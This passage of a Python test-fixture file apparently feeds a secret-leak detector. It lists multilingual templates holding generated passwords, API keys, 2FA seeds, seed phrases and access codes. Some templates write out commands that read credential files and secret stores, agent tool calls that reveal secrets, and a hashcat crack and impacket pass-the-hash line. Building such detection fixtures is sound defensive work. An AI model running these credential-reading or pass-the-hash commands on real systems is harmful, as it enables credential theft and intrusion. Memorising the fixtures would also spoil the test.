        ("slmgr /ipk {}\nslmgr /ato", "-".join(r(5, UPPER) for _ in range(4)) + "-TPB86"),
        ("{}\n(printed, in the drawer)", "JT" + "-".join(r(4, UPPER) for _ in range(7))[2:]),
        ("    Numerical Password:\n      ID: {05904780-A207-4A36-A919-006A706CA836}\n"
         "      Password:\n        {}", "-".join(r(6, "0123456789") for _ in range(8))),
        ("$ aws iam create-virtual-mfa-device --virtual-mfa-device-name ops --outfile "
         "/dev/stdout --bootstrap-method Base32StringSeed\n{}{", "PWQ3" + r(60, B32)),
        ("2FA-Schlüssel, manuell eingeben:\n{}\n(zeitbasiert)",
         " ".join(r(3, B32.lower()) + "4" for _ in range(8))),
        ("locked out — using one of my recovery codes: {}\n(will regenerate the set)",
         r(5, HEX) + "-" + r(4, HEX) + "7"),
        ("Bạn ơi, mã dự phòng Discord của tài khoản bot nhé: {}", "ni" + r(2, "abc") + "-s4f3"),
        ("Google backup code for ops@acme.example — one-time use: {}", "8287 4363"),
        ("엄마: 현관 도어락 비밀번호 {} 야. 번호 누르고 * 눌러", "861213"),
        ("Proton backup codes: 11269-67763 26811-22244 60828-24517 47539-22799 {}",
         "00027-28194"),
        ('<env name="SPRING_DATASOURCE_PASSWORD" value="{}" />', pw()),
        ('    <string name="oauth_client_secret">{}</string>', r(40, URLSAFE)),
        ('config.adminpassFile = "${pkgs.writeText "adminpass" "{}"}";', pw()),
        ('environment.etc."restic/password".text = "{}";', "harbor-raven94-otter-hazel"),
        ("$ cat /data/matrix.signing.key\ned25519 a_rN4E {}", r(43)),
        ("openssl enc -aes-256-cbc -d -in db.enc -out db.sql -K {} -iv 00ff", r(64, HEX)),
        ("./srcds_run -game csgo +sv_setsteamaccount {} -port 27015", r(32, "0123456789ABCDEF")),
        ('const client = algoliasearch("BXYG42AJYV", "{}");', r(32, HEX)),
        ('var client = new CosmosClient(\n    "https://x.documents.azure.com:443/",\n    "{}");',
         r(37) + "/" + r(35) + "/" + r(12) + "=="),
        ("----- BEGIN LICENSE -----\nLumen Apps GmbH\n{}\n------ END LICENSE ------",
         r(8, "0123456789ABCDEF") + " " + r(8, "0123456789ABCDEF")),
        ("advanced:\n  network_key: {}",
         "[" + ", ".join(str(rng.randrange(256)) for _ in range(16)) + "]"),
        ("https://shop.example/accounts/reset/MTI4NDc/{}/", "3msmy3-" + r(32, HEX)),
        ("https://app.example/invite?token={}&team=7", r(32, URLSAFE)),
        ("le puse la contraseña temporal {} ; tiene que cambiarla", pw()),
        ("Ключ ~/.ssh/deploy, парольная фраза: {}", "orbit-lynx91-juniper-otter"),
        ('  "intelephense.licenceKey": "{}",', r(15, UPPER)),
        ("Name: __Secure-next-auth.session-token\nValue: {}",
         "eyJhbGciOiJkaXIiLCJlbmMiOiJBMjU2R0NNIn0.." + r(16, URLSAFE) + "." + r(120, URLSAFE)
         + "." + r(22, URLSAFE)),
        ('const PARTNER_HMAC_SECRET: &str = "{}";', r(64, HEX)),
        ("registry=https://nexus.corp.local/\n_auth={}\nalways-auth=true",
         r(22) + "=="),
        ("# /etc/GeoIP.conf\nAccountID 641191\nLicenseKey {}\nEditionIDs GeoLite2-City",
         r(6) + "_" + r(33)),
        ("finally changed the router admin pass to {}. write it on the card", pw()),
        ("$ pass show work/vpn\n{}\nuser: mlindqvist", r(22)),
        ("SIM card (mum's phone): PUK1 {}, keep with the contract", "68011088"),
        ("Hotel safe in room 512 — I set the code to {}", "340459"),
        ("Пароль от почты на mail.ru: {} — потом поменяю.", pw()),
        ("كلمة المرور الجديدة لحساب البنك هي: {} لا تشاركها مع أحد.", pw()),
        ("YubiKey — PIV PIN changed from default, new PIN {}, PUK stays in the safe.",
         "21463940"),
    )
    # round 10: what the seventh corpus's held-out half leaked when it was run once
    words = ("blanket victory advice badge wolf connect version airport tray tourist auction "
             "afraid video bar alert tiger cricket argue cute crazy become apart awkward add")
    session = "IQoJb3JpZ2luX2Vj" + r(59, ALNUM) + "/" + r(300, ALNUM) + "=="
    out += _shapes(
        "round-10",
        ("- old secret key, DEACTIVATE after moving billing alarms: {}\n- support plan: basic",
         r(20) + "+" + r(19)),
        ("$ wg genkey | tee privatekey | wg pubkey > publickey\n$ cat privatekey\n{}",
         r(43) + "="),
        ('var dataKey, _ = hex.DecodeString("{}")', r(64, HEX)),
        ("Google account 2SV — \"Can't scan it?\" setup key:\n{}\n(time based)",
         " ".join(r(3, B32.lower()) + "7" for _ in range(8))),
        ("Lisbon flat: keybox on the left of the door, code {}. Wi-Fi on the fridge.", "9473"),
        ("Garagentor Tiefgarage: *{}# am Tastenfeld, dann 3 Sekunden warten.", "1881"),
        ("$ bundle config --global gems.contribsys.com {}\n$ bundle install",
         r(8, HEX) + ":" + r(8, HEX)),
        ("Streaming\n- Netflix: jess@example.com / pw {}\n- Disney+: ask Tom", pw()),
        ("Compte de maman : identifiant 2 68 07 75 114 082, mot de passe {}", pw()),
        ("set -gx ALGOLIA_APP_ID Z9SIDBZVCG\nset -gx ALGOLIA_ADMIN_KEY {}", r(32, HEX)),
        ("$ vault kv get -field=password secret/prod/billing-db\n{}", r(20)),
        ('$ op item get "AWS root" --fields label=password --reveal\n{}', pw()),
        ('$ security find-generic-password -wa "Home"\n{}', r(15)),
        ("Hier ist die Wiederherstellungsphrase für das Hardware-Wallet, bitte sicher "
         "aufbewahren:\n{}", words),
        ("Gäste-WLAN: Fernweh-Gast / Schlüssel {} (steht auf dem Kühlschrank)",
         "Fernweh" + r(4, "0123456789") + "!"),
    )
    out.append(Shape("round-10", "session token I used was\n" + "\n".join(
        session[i:i + 76] for i in range(0, len(session), 76)) + "\n(expires 12:00 UTC)",
        session))
    # round 11: what the eighth corpus's development half found
    out += _shapes(
        "round-11",
        ("Le mdp du compte Canal+ c'est toujours « {} », ne le partage pas", "Pastèque_du_Sud9"),
        ("account gmail\nhost smtp.gmail.com\nuser h.b@gmail.com\npassword {}\n",
         r(16, string.ascii_lowercase)),
        ("Пароль застосунку для пошти Outlook (обліковий запис Microsoft): {} — вставити",
         r(16, string.ascii_lowercase)),
        ("SSID: FRITZ!Box 7590 ZK\nWLAN-Netzwerkschlüssel: {}",
         " ".join(r(4, "0123456789") for _ in range(5))),
        ("Appart de Lyon\nDigicode portail : {}\nPuis interphone", "B4729"),
        ("- [ ] bikes + lock (combo {})\n- [ ] helmets", "0739"),
        ("Mã dự phòng Discord của em: {} — anh đăng nhập giúp em", "mlnxxm7z"),
        ("Huvudlösenord för KeePass-databasen (familjen.kdbx): {}", "Blåbär-Skog-Fjäll-2024"),
        ("淘宝 账号 wang_lei88 密码 {}，记得改掉", "Lx2024@hz!"),
        ("$ aws configure get aws_secret_access_key --profile prod\n{}", r(40, B64)),
        ("GPG-Passphrase (Schlüssel 0x9C4E2A71B3D05F18): {}", "Leuchtturm Ebbe Flut 1987"),
        ("Sertifika özel anahtarının parolası (nginx açılışta soruyor): {}", "Anahtar!Kapı_73"),
        ("$ cat privatekey publickey\n{}\nWF/lOPzeFOYu7JSGhEAZyIZoDml7LFHQo0Nx8A/f6Z8=",
         r(43) + "="),
        ('f = Fernet(b"{}")', r(43, URLSAFE) + "="),
        ("[21:14] kaito: 余ってたSteamキーあげる → {} (Hades)",
         "-".join(r(4, string.ascii_uppercase) + "7" for _ in range(3))),
        ("curl -X POST https://maker.ifttt.com/trigger/door/with/key/{}", r(22, URLSAFE)),
        ("PIN dispositivo per l'app della banca (Intesa Sanpaolo): {}", "481593"),
        ("Telefon-Banking Kennwort (wird bei jedem Anruf abgefragt): {}", "Blaubeerkuchen"),
        ("Family safe word (if someone calls claiming to be one of us): {}", "tangerine-otter"),
        ("| Gerät | IP | Admin | Passwort |\n|---|---|---|---|\n| DS920+ | 192.168.178.20 | "
         "lena | {} |", pw()),
        ("| Software | Version | Serial | Installed on |\n|---|---|---|---|\n"
         "| Photoshop CS6 | 13.0.1 | {} | old iMac |",
         "-".join(r(4, "0123456789") for _ in range(6))),
        ("Chrome export, the router's row:\n192.168.1.1,http://192.168.1.1/,admin,{},", pw()),
        ("echo {} | xxd -r -p   # the weather API key", r(32).encode().hex()),
    )
    # round 12: what the eighth corpus's held-out half leaked when it was run once
    words24 = ("approve noise usual quick subject rather\necho patient shine dance sorry elbow\n"
               "cross void aerobic holiday service consider\n"
               "actor swamp east letter notice alcohol")
    out += _shapes(
        "round-12",
        ("### Steam\nLogin: darkpine_88\nPasswort:\n    {}\nSteam Guard: App", pw()),
        ("Normales Passwort geht nicht wegen 2FA → App-Passwort erstellt:\n{}\n(Name: Laptop)",
         " ".join(r(4, string.ascii_lowercase) for _ in range(4))),
        ('    s.login("reports@acme-labs.io", "{}")', r(16, LOWER)),
        ("- Schlüsselbox neben der Haustür, Code {}\n- Mülltonnen: Mittwoch", "3958"),
        ("la caja fuerte la dejé con el código {} (el pasaporte está dentro)", "6081"),
        ("הקוד של הכספת בארון בחדר השינה: {} — לא לשכוח", "471592"),
        ("Binance 2FA setup key (also on paper in the safe): {}",
         " ".join(r(3, B32) + "7" for _ in range(4))),
        ("GitHub recovery codes (downloaded 2024-02-03):\n```\n{}\n```",
         r(5, HEX) + "-" + r(4, HEX) + "9"),
        ('{{"content":"name,url,username,password\\nmeine-aok,https://meine.aok.de/,b.s,{}\\n"}}',
         pw()),
        ("Chiave API Brevo, creata per il gestionale: {}",
         "xkeysib-" + r(64, HEX) + "-" + r(16)),
        ("Hasło do RabbitMQ na stagingu (user: sklep): {}", pw()),
        ("Passphrase für ~/.ssh/id_ed25519 (Arbeitslaptop): {}", "Mauersegler 7 Dachrinne"),
        ("$ sudo cat /etc/openvpn/client/auth.txt\nvpn-mkrueger\n{}", pw()),
        ("Ο κωδικός για το VPN της δουλειάς (χρήστης: gpapadopoulos) είναι {}",
         "Ελιά_Θάλασσα!58"),
        ("Ledger Nano X – recovery sheet copied (24 words):\n```\n{}\n```", words24),
        ("Key bản quyền Kaspersky Standard (3 thiết bị): {}",
         "-".join(r(4, UPPER) + "6" for _ in range(4))),
        ('{{"db": {{"host": "db.internal", "user": "report", "password": "{}"}}}}',
         'q\\"W7\\\\zP#4mLx'),
        ("Mailbox-PIN (Vodafone, Abfrage über 5500): {}", "3306"),
        ("Sicherheitsfrage bei der Telekom („Name Ihres ersten Haustiers“) – Zufallswort "
         "statt echter Antwort: {}", "Quarkbrötchen17"),
        ("秘密の質問（母の旧姓）の答え：{}（本当の旧姓ではない）", "ゆずポン酢"),
        ("UPI पिन (SBI खाता): {}", "999244"),
    )
    # round 13: what the ninth corpus's development half found
    words12 = "alley blouse brief canvas crisp click crowd biology code coffee alarm art"
    out += _shapes(
        "round-13",
        ("Nyaralás előtti teendők\n- széf kombináció: {}\n- locsolás: Kati", "10-35-23"),
        ("Proton — återställning\nåterställningsfras (12 ord):\n{}\nSkriven för hand", words12),
        ("QRコードを読み取れない場合は、認証アプリに次のキーを入力してください:\n{}\n時間ベース",
         " ".join(r(3, B32) + "5" for _ in range(8))),
        ('client = Postmark::ApiClient.new("{}")', uuid()),
        ("skopeo copy --dest-creds 'acme+pusher:{}' docker://a docker://b", r(64, UPPER)),
        (".github.com\tTRUE\t/\tTRUE\t1767225600\tlogged_in\tyes\n"
         "github.com\tFALSE\t/\tTRUE\t1751328000\tuser_session\t{}", r(48)),
        ('  headers: {{ cookie: "d={}; d-s=1712345678" }},', "xoxd-" + r(60) + "%2BG3E%3D%3D"),
        ('acl {{\n  tokens {{\n    default = "{}"\n  }}\n}}', uuid()),
        ("[19:31] Mikko: mikä se KeePassin pääsalasana olikaan?\n[19:33] Laura: {}\n", pw()),
        ("[23:10] Артём: вот токен бота для сервера\n[23:10] Артём: {}",
         "OTc5MzQzOTAyODYzNTk3MjEw." + r(6, URLSAFE) + "." + r(38, URLSAFE)),
        ("Halifax phone banking\nmemorable word: {}\n(they ask for 2 characters)",
         "marmaladeteapot44"),
        ("Banco — preguntas de seguridad\nPregunta: ¿ciudad de nacimiento de tu padre?\n"
         "Respuesta: {}", "Pd2-lince-Cuenca"),
        ("ネット銀行メモ\n秘密の質問：初めて飼ったペットの名前は？\n答え：{}", "ひまわり938いぬ"),
        ("Zoom-Meeting beitreten\nMeeting-ID: 845 2931 0042\nKenncode: {}", "0K8i9B"),
        ("| Host | iDRAC IP | User | Pass | Notes |\n|------|------|------|------|------|\n"
         "| pve-01 | 10.0.9.11 | root | {} | R730 |", pw()),
    )
    # round 14: what the ninth corpus's held-out half leaked when it was run once
    out += _shapes(
        "round-14",
        ("Zugänge (Zettel abgetippt)\nGMX Mail: oma@gmx.de\nKw: {}\nHandy: Kundennr. 4417", pw()),
        ("Alarm code for her house is {} (then press the tick).", "8 3 8 0"),
        ("Chata — pokyny pro hosty\n- kód od garáže: {}#\n- dřevo je v kůlně", "9385"),
        ("github-recovery-codes.txt\n\n{}\n" + r(5, HEX) + "-" + r(5, HEX) + "\n\nPut these",
         r(5, HEX) + "-" + r(4, HEX) + "1"),
        ("1Password Emergency Kit\nSECRET  KEY   {}", "A3-" + r(6, UPPER) + "-" + "-".join(
            r(5, UPPER) for _ in range(5))),
        ("I still have one backup code: {} — can you walk me through using it?", "bjfbxxti"),
        ("[21:14] Javi: te paso la clave privada de la cartera de MetaMask\n[21:14] Javi: {}\n",
         r(64, HEX)),
        ("- PAT do Azure DevOps (expira em 90 dias): {}",
         r(48, "abcdefghijklmnopqrstuvwxyz234567") + "2345"),
        ("Harbor — muistiinpanot\nrobottitili: robot$ci+builder\nsalaisuus: {}\nvanhenee", r(32)),
        ('s.cookies.set("laravel_session", "{}", domain="portal.example.de")', "eyJpdiI6" + r(80)),
        ('    .header("Authorization", "Token {}")', r(40, HEX)),
        ('{{"command":"cat config/master.key"}}\n{{"type":"tool_result","content":"{}"}}',
         r(32, HEX)),
        ("printf '%s' '{}' > ~/.vault_pass && chmod 600 ~/.vault_pass", pw()),
        ("Nationwide security questions (answers are random on purpose)\nQ: first pet?\nA: {}",
         "dpse-marmot-575"),
        ("Sicherheitsfrage: Name Ihrer Grundschule?\nAntwort: {}", "lumen morgen wolke 33"),
    )
    # round 15: what the tenth corpus's development half found
    out += _shapes(
        "round-15",
        ("## Streaming & Co.\n- Netflix: familie.berger@posteo.de / {}\n- Disney+: gleiche Mail",
         pw()),
        ("Routern (Telia Wifi-router)\nAdminlösenord: {}\nBytt från standardlösenordet",
         "Girasol-Lantern-88"),
        ("自宅Wi-Fi\nSSID: aterm-7c2f1a-g\n暗号化キー: {}\n※ 来客用", r(13, HEX)),
        ("GitHub recovery codes – status 2024-09-02\nnext unused code: {}",
         r(4, HEX) + "a-" + r(4, HEX) + "6"),
        ("# /etc/postfix/sasl_passwd\n[email-smtp.eu-west-1.amazonaws.com]:587 "
         "AKIAUSPX5MERZUR7QVAB:{}", r(20) + "+" + r(23)),
        ("Сід-фраза від гаманця Trust Wallet:\n{}",
         "able access cream cereal audit basket clip combine cereal bike account clerk"),
        ("IntelliJ IDEA Ultimate – activation code:\n{}",
         r(10, UPPER) + "-eyJsaWNlbnNlSWQiOiJON" + r(60) + "-" + r(40)),
        ('{{"content": "{{\\"username\\": \\"lab\\", \\"key\\": \\"{}\\"}}"}}', r(32, HEX)),
        ("# ~/.cdsapirc\nurl: https://cds.climate.copernicus.eu/api/v2\nkey: {}",
         "537265:" + uuid()),
        ('{{"content": "[{{\\"name\\": \\"Luftreiniger\\", \\"key\\": \\"{}\\"}}]"}}',
         "J$1=:OYyayv]V-#Q"),
        ("TPV del banco:\ncontraseña de comercio para devoluciones: {}", "816535"),
        ("AD-Konto angelegt\nInitialpasswort: {} (Änderung bei erster Anmeldung erzwungen)",
         pw()),
        ("LUKS-Passphrase für /dev/sdb (externe Platte):\n{}",
         "aspect cloth auction allow cinnamon"),
        ("Panel Plesk: https://panel.example.es:8443 – usuario admin, contraseña {}",
         "Jaguar_8789"),
    )
    # round 16: what the eleventh corpus showed after its one run on the session's last code
    out += _shapes(
        "round-16",
        ('{{"values": [{{"key": "access_token", "value": "{}", "type": "secret"}}]}}',
         r(43, URLSAFE)),
        ("周五交接：\n公司邮箱密码已改成 {}，下周一记得登录一次", "Lanmei@1132qiu"),
        ("• Wi-Fi : Freebox-F4B516\n• Clé WPA : {}\n• Poubelles : mardi",
         "gouttiere-indemnis-ecrivis-amandier"),
        ("curl -s -u admin:'{}' https://printer.school.lan/api/v1/status", "nG4KeJrmV!rF3EK"),
        ("Azure DevOps\nPAT (Code: Read, Packaging: Read): {}", r(48, LOWER) + "1234"),
        ("넥스트클라우드 2단계 인증 백업 코드 (연구실 계정)\n{}\n남은 코드: 9개",
         r(12, UPPER) + "83DE"),
        ("Clave privada (WIF): {}\nHay que barrerla a la Trezor.",
         "5J" + r(49, "123456789ABCDEFGHJKLMNPQRSTUVWXYZabcdefghijkmnopqrstuvwxyz")),
        ("Code de l'alarme : {}, puis « OFF ».", "6086"),
        ("Inflyttning Götgatan 12\nPortkod: {}\nTvättstugan bokas på tavlan.", "4264"),
        ("Schlüsseltresor links neben der Haustür, Code {}.", "9-5-7-4"),
        ("Dysk zewnętrzny (LUKS)\nHasło do odszyfrowania: {}\nPodłączać tylko do laptopa.",
         "kompas latarnia wydma kasztan 35"),
        ('  {{\n    "id": "bj7fea7jz1mu56u6us96yp",\n    "key": "{}",\n  }}', "UOlHE#Sym1h7D<wk"),
        ("Servidor: rtmp://a.rtmp.youtube.com/live2\nChave de transmissão: {}",
         "-".join(r(4, LOWER) for _ in range(5))),
        ("rocommunity {} 10.0.0.0/24\nsyslocation Salle serveur", r(12)),
        ("لابتوب أمي\nاسم المستخدم: Mama\nكلمة مرور تسجيل الدخول: {}", "bdBu8nEeUh"),
        ("- Clave secreta de acceso: {}\n- La generé el martes", r(40)),
        ("本番バッチ用のシークレットアクセスキー：{}\n（アクセスキーIDは田中さんが管理）",
         r(40)),
        ('{{"content": "{{\\n  \\"token\\": \\"{}\\"}}"}}', "xoxe.xoxp-1-" + r(20) + "_" + r(30)),
        ("cat /var/lib/rancher/k3s/server/token\n{}",
         "K10" + r(64, HEX) + "::server:" + r(32, HEX)),
        ("Códigos de respaldo de Google (cuenta de mamá):\nUsé el primero el 12/04. Próximo sin "
         "usar: {}", "7796 5494"),
        ("Dropbox – emergency backup code for two-step verification: {}", "y2g8 ypmo zn7h qsja"),
        ("Приватный ключ траты (spend key): {}\nАдрес оставил в описании.", r(64, HEX)),
        ("frase de acceso de 30 dígitos: {}",
         " ".join(r(5, "0123456789") for _ in range(6))),
    )
    # round 17: no rule's name, a credential's word beside a random value (nearby.py), and
    # recovery phrases by BIP-39's word lists (seeds.py)
    out += _shapes(
        "round-17",
        ('{"content": "network={\\n\\tssid=\\"Cabin\\"\\n\\tpsk=\\"{}\\"\\n}"}',
         "k4Rw9TzQp2Lm7x"),
        ('r = httpx.get(url, auth=("scanner", "{}"), timeout=5)', "b7TqW2xkR9mZs"),
        ("define( 'MAILER_SMTP_PASS', '{}' );", "Hq7Lw2RtX9pZc4"),
        ('poll mail.example.cz user "office" password "{}" is office here', "PzK4q8WmT2vRx"),
        ("Cuentas del aula:\n- Classroom: profe.lopez / {}\n- Correo: misma contraseña",
         "tG7wQ2rZk9Lm"),
        ("Usługa\tLogin\tHasło\nePUAP\tkancelaria.nowak\t{}\n", "Rtw7*Kq2mZp9"),
        ('{"title":"Shop","fields":[{"designation":"password","value":"{}"}]}',
         "Wk9rT2qLz7Xm4p"),
        ('%any 192.0.2.10 : PSK "{}"', "&7TqW*k2!RzLm9Xp"),
        ("crypto isakmp key {} address 192.0.2.44", "9Rk2TqW7zLm4Xp"),
        ("Befristeter Zugangspass für m.huber (8 h gültig):\n{}\nAusgestellt vom Helpdesk.",
         "=Tk2q9WmR7xZ"),
        ("App Secret của ứng dụng (chỉ để trên server): {}", r(32, HEX)),
        ("AuthInfo-Code für die Domain (gültig bis 31.12.): {}", "QW7k-Tz2Rm9x"),
        ("token <- \"{}\"\nres <- api_call(token)", r(32, "0123456789ABCDEF")),
        ("spark.hadoop.fs.s3a.secret.key      {}", r(30) + "+" + r(9)),
        ("暗証番号とパスワード:\n{}", "Zq7Wk2Tr9Lmx4"),
        ("冷钱包助记词，千万别丢：\n{}",
         "excuse liquid wrong hammer ozone drift valley census tunnel pledge frown chaos"),
        ("restore the test wallet, words are: {}",
         "velvet maze tobacco ripple ankle foster sunset glimpse orbit canal lizard husband "
         "eager sketch rabbit"),
        ('{"input": {"command": "echo \'{}\' | sudo -S systemctl restart cups"}}',
         "Tr7q?2kWm9Lz"),
        ("Kalender-Abo:\nhttps://calendar.google.com/calendar/ical/x%40gmail.com/{}/basic.ics",
         "private-" + r(32, HEX)),
        ("# /etc/openvpn/client/auth.txt (auth-user-pass)\nvpn-field\n{}", "8ZqW2kTr7LmXp"),
        ("Babamın tableti – ekran kilidi şifresi: {}\nKimseye verme.", "583017"),
        ("SPSS 29 (Campus-Lizenz) – Installation Key:\n{}",
         "-".join(r(5, "0123456789") for _ in range(5))),
        ('{"type": "assistant", "content": [{"type": "tool_use", "input": {"command": '
         '"occ config:system:get dbpassword"}}]}\n{"type": "user", "content": '
         '[{"type": "tool_result", "content": "{}\\n"}]}', "Qw7TzK2mR9xLpB4vN8sY"),
        ('{"input": {"command": "az storage account keys list -n st1 --query [0].value -o '
         'tsv"}}\n{"type": "tool_result", "content": "{}\\n"}', r(86, B64) + "=="),
        ("OpenRouter → Keys\nNom : portable-atelier\nClé : {}\nCréée le 02/03", r(32)),
        ("Ciao, per il form usate questa chiave Mailgun:\n\n{}\n\nGrazie",
         r(32, HEX) + "-" + r(8, HEX) + "-" + r(8, HEX)),
        ("$ php artisan key:generate --show\n{}\n$ vim .env", "base64:" + r(43, B64) + "="),
        ("<Server>\n  <User>deploy</User>\n  <Pass>{}</Pass>\n</Server>", "Birch7mead42!"),
        ("नेटबैंकिंग का लॉगिन:\nयूज़र – ravi88\nपासवर्ड – {}", "maple-river-stone-41"),
        ('$ nmcli device wifi connect "Home-5G" password "{}"', "40917735218"),
        ("router#show run | include enable\nenable password 7 {}", r(26, "0123456789ABCDEF")),
        ("ลืมรหัสปลดล็อกแท็บเล็ตอีกแล้ว: {}", "590371"),
        ("Photoshop 2021 (Kauflizenz)\nSerial number: {}",
         "-".join(r(4, "0123456789") for _ in range(6))),
        ("Вот ключ для редактора, купили на отдел: {}",
         "-".join(r(4, UPPER) for _ in range(3)) + "-7QKD"),
        ('[licence]\ncustomer = "acme"\nkey = "{}"',
         "LIC-" + "-".join(r(8, "0123456789ABCDEF") for _ in range(3))),
        ("Cookie kopiert: wordpress_logged_in_" + r(32, HEX) + "={}",
         "admin%7C1796000000%7C" + r(43) + "%7C" + r(64, HEX)),
        ("Shared view (the URL is the only lock):\n"
         "https://grafana.example.net/public-dashboards/{}", r(40, LOWER)),
        ("curl -X PUT http://192.168.1.40/api/{}/lights/2/state -d '{\"on\":false}'",
         r(40, ALNUM + "-")),
        ('{"role": "user", "content": "what was the router password again?"}\n'
         '{"role": "user", "content": "found it, it\'s {}"}', "Hv7kQ2mZ9pLx"),
        ("Rete della casa al mare\nSSID: Casa-5G\nChiave WPA: {}", "gabbiano-onda-faro-71"),
        ("# 公司 VPN 账号 /etc/openvpn/auth.txt\n# 第一行用户名，第二行密码\nli.na\n{}",
         "haitang&2019"),
        ('<Server>\n  <User>web77</User>\n  <Pass encoding="base64">{}</Pass>\n</Server>',
         "Qk9ya" + r(11) + "="),
        ('$db = new mysqli("localhost", "shop", "{}", "shop_prod");', "Lx9@m#2204."),
        ('{"type":"function_call","arguments":"{\\"command\\":[\\"bash\\",\\"-lc\\",'
         '\\"kubectl get secret db -o jsonpath={.data.password} | base64 -d\\"]}"}\n'
         '{"type":"function_call_output","output":"{\\"output\\":\\"{}\\"}"}', r(22)),
        ("Router label (transcribed)\nSSID: Home-A969\nWLAN Key: {}", "K7QX2M9PZ4TB"),
        ("Can't scan it?\n1. Choose 'Enter a setup key'\n2. Type this key (spaces don't matter):"
         "\n   {}", " ".join(r(4, "abcdefghijklmnopqrstuvwxyz234567") for _ in range(7)) + " k3m7"),
        ("Nonna: entrando in casa digita il codice {} e poi premi OFF.", "58371"),
        ("| Printer | Room | Web UI |\n|---|---|---|\n| Kyocera M2540 | 1.04 | admin / {} |",
         "Tq7#mW2zLp9"),
        ("VPN на роутері для мами\nСпільний ключ IPsec (PSK): {}\nЛогін: mama", "QzTkRwXyPmLsVbNd"),
        ('{"type": "tool_result", "content": "Jenkins initial setup is required.\\nPlease use '
         'the following password to proceed to installation:\\n\\n{}\\n\\nThis may also be '
         'found at: /var/jenkins_home/secrets/initialAdminPassword"}', r(32, HEX)),
        ("[Photo of the router's label]\nSSID: Vodafone-B17C\nWLAN Key: {}\nS/N: D7Y1DWEMLHSA",
         "QKX7ZHUC3190"),
        ("OCR vom Post-it am Monitor:\nNAS Admin-Passwort\n{}\nnicht löschen!",
         "Kastanie.Birne.418"),
        ("PRIVATE_STOREFRONT_API_TOKEN={}   # not a public token, never in the client",
         r(32, HEX)),
        ("คอมพิวเตอร์ที่ร้าน\nชื่อผู้ใช้: Cashier\nรหัสผ่านเครื่องคอม: {}", "Mango+1984"),
        ("Alarmsysteem (Ajax)\nUitschakelen: alarmcode {} + OFF", "5192"),
        ("Działka:\n* sejf na klucze przy drzwiach: {}", "7304"),
        ("O código da fechadura eletrónica é {} — válido até domingo.", "682915"),
        ("Tresor im Keller\nKombination: {} (rechts – links – rechts)", "31-07-58"),
        ("[09:14] Claire: réseau Bureau-Annecy, le code c'est {}", "Lacbleu_47K"),
        ("Closing checklist\n2. Manager passcode for refunds: {}", "8614"),
        ("Dad: what's the streaming password again? the TV logged me out\n"
         "Dad: the old one with the cat's name doesn't work\nMe: it's {}", "Pebble&Frost42"),
        ("1. ozone 2. drift 3. valley\n{}",
         "4. census 5. tunnel 6. pledge 7. frown 8. chaos 9. excuse 10. liquid 11. wrong "
         "12. hammer"),
    )
    # round 21: corpora 14 and 15 after their one run (codes under a heading, a device's
    # passcode, a password that begins with "$")
    out += _shapes(
        "round-21",
        ("Alarm system (Verisure)\nDisarm: code {} then OFF on the hall keypad", "8352"),
        ("Backup codes – Dropbox (work account)\nLast unused one: {}\nMake new ones after.",
         "4417 9032"),
        ("Online banking (Sparkasse)\nUser: 55120934\nAccess password: {}", "$Rq7tLm2Xk9"),
        ("Grandma's tablet\nCode: {}\nApple ID is mine (family sharing)", "730415"),
        ("- iPhone (Tom) code: {}", "482093"),
        # corpus 16 after its one run
        ("- [ ] renew home insurance — login: kate.w / {}", "marigold1971_"),
        ("| host | ip | login |\n|---|---|---|\n| nas | 192.168.1.20 | admin / {} |", "r4v3n2020x"),
        ("mc server pass is `{}` — don't paste it anywhere", "9QpL*vD!xRuTcW2k"),
        ("tijdelijk: het wachtwoord voor je nieuwe laptop is {} – graag wijzigen", "Tulp-Molen42"),
        ("[bank:volksbank]\nuser = 8204381247\npin = {}\n", "52816"),
        ("Gun cabinet combination: {}\nright 4x, left 3x", "41-07-33"),
        ("Bildschirmzeit-Code auf Bens iPad: {}", "2694"),
        ("$ pass show vault/disk-laptop\n{}\n# encrypted disk", "Harbor7 tidy ostrich lamp"),
        ("mcrcon -H mc.example.net -P 25575 -p '{}' \"list\"", "k3ttl3dr4m9"),
        ("steamcmd +force_install_dir /srv/ark +login srvadmin {} +app_update 376030 +quit",
         "Bramble42+#"),
        ("Net::SMTP.start('smtp.example.io', 587, 'localhost', 'ops@example.io', '{}', :login)",
         "#-k7+TqWm2Lz9"),
        (json.dumps({"type": "function_call_output", "output": json.dumps(
            {"output": "machine api.example.ai\n  login me\n  password {}\n"})}),
         q(40, HEX)),
        ('{"loginFields": [{"value": "{}", "name": "password", "designation": "password"}]}',
         "Zq8&+-_wLTP4pkrM&x"),
        ('{"name": "Cookie", "value": "SID={}; locale=en-GB"}', q(60, URLSAFE)),
        ("Name      Value\nsession   {}  ✓",
         "eyJfdXNlcl9pZCI6IjQxIn0." + q(6, URLSAFE) + "." + q(27, URLSAFE)),
        ("Frase semilla (24 palabras):\n{}", " ".join(
            ["don", "potro", "flu\u0301or", "mafia", "arne\u0301s", "capucha", "llaga", "letra",
             "ahogo", "cobre", "azafra\u0301n", "ganar"])),
        ('    client := search.NewClient("7QLE58KY3P", "{}") // admin key, for saveObjects',
         q(32, HEX)),
        ("wallet seed (12 words):\n{}", "imitate arena hover fragile teapot donkey infant "
         "tackle rhythm genius blanket ivory"),  # one word off the list (a slip)
    )
    # round 22: corpus 17 after its one run (codes in more words, a pentest's loot, a
    # semicolon export, a PIN letter)
    out += _shapes(
        "round-22",
        ("Accès pro\nIdentifiant : 5521803344\nCode secret : {}", "739215"),
        ("Clave de firma (token del banco, para remesas): {}", "582640"),
        ("Medikamentenschrank Zahlencode: {}", "5917"),
        ("Court portal – firm account, filer PIN {}", "4471-2093"),
        ("Reise-Zahlenschloss (TSA): {}", "3-9-4"),
        ("- 2025-03-02: 家里路由器密码：{}", "lunar maple quiver gecko42"),
        ("[Signal] Mama: Der neue Garagencode ist {} 🙂", "602815"),
        ("Fahrradschloss (rot): {}", "48203"),
        ("Can't scan the QR code? Enter this key manually:\n{}\n(second phone)",
         "k3vq 7hnz 2wxp ra6m tb4e yq5s n7dj c2ko"),
        ("staging admin: admin / {}", "Vela.ponte42!"),
        ("Typ;Nutzer;Kennwort;URL\nIntranet;jmeyer;{};https://intra.example.de",
         "Kaffee!berg71#"),
        ("hashcat -m 1000 hashes.txt rockyou.txt\n" + q(32, HEX) + ":{}\nStatus: Cracked",
         "Winter2019!x"),
        ("[+] cracked in 3 min → svc_backup : {}", "5unfl0w3r@Dock"),
        ("impacket-wmiexec -hashes :{} 'CORP/admin@10.0.0.5'", q(32, HEX)),
